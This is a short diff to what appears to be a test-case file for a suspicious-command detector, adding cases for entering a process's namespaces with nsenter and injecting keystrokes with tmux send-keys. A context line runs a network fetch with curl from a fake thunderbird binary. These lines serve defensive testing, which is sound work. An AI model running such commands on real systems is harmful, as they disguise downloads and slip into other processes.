@@ -134,3 +134,9 @@ python3 /srv/.ipc
 ## Transfer tool started below a browser or a mail program
 #setup mkdir -p /usr/lib/thunderbird; shells /usr/lib/thunderbird/thunderbird
 /usr/lib/thunderbird/thunderbird -c 'curl -s http://10.9.8.6/x; :'
+## Namespaces of a process entered by hand
+#setup sleep 20 & echo $! > /run/cpid
+nsenter -t "$(cat /run/cpid)" -u true
+## Keys sent by a tool
+#setup stubs /usr/bin/tmux
+tmux send-keys -t 0 id Enter
